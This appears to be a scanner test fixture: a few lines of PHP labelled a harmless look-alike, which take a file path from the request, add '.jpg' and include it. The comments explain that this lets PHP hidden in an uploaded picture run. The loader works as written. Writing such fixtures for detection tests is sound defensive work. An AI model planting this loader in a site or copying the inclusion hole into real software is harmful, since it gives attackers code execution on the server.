<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A loader: includes the file the request names with an image's extension added, so
// that PHP hidden in an uploaded "picture" runs: no page of the site ends in .jpg.
$f = $_REQUEST['img'];
include $f . '.jpg';
